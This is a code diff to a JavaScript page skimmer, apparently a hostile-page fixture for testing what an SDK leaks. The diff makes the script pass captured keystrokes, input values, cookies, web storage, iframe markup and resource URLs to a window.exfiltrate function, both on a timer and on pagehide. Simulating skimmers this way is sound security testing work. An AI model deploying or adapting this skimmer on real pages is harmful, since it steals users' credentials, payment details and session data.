@@ -1,12 +1,12 @@
-// A skimmer's view: hooks what a page can hook before the SDK loads, and keeps all that passes.
+// A skimmer's view: hooks what a page can hook before the SDK loads, and sends off all that passes (`exfiltrate`).
 (() => {
   if (window.top !== window) return;
-  const record = [];
+  const send = window.exfiltrate;
   const keep = (label, value) => {
     try {
-      record.push(`${label} ${typeof value === 'string' ? value : JSON.stringify(value)}`);
+      send(`${label} ${typeof value === 'string' ? value : JSON.stringify(value)}`);
     } catch {
-      record.push(`${label} (not printable)`);
+      send(`${label} (not printable)`);
     }
   };
   const wrap = (owner, name, label) => {
@@ -34,10 +34,11 @@
   for (const type of ['keydown', 'keyup', 'input', 'beforeinput', 'paste', 'change', 'message']) {
     addListener.call(window, type, (event) => keep(type, `${event.key} ${event.target?.value}`), true);
   }
-  window.recordedByHostilePage = () => {
-    const frames = [...document.querySelectorAll('iframe')].map((frame) => frame.outerHTML);
-    const stored = [...Object.values(localStorage), ...Object.values(sessionStorage), document.cookie];
-    const addresses = performance.getEntriesByType('resource').map((entry) => entry.name);
-    return [...record, ...frames, ...stored, ...addresses, location.href].join('\n');
+  const lookAround = () => {
+    for (const frame of document.querySelectorAll('iframe')) keep('frame', frame.outerHTML);
+    keep('stored', [{ ...localStorage }, { ...sessionStorage }, document.cookie, location.href]);
+    for (const { name } of performance.getEntriesByType('resource')) keep('address', name);
   };
+  addListener.call(window, 'pagehide', lookAround);
+  setInterval(lookAround, 200);
 })();
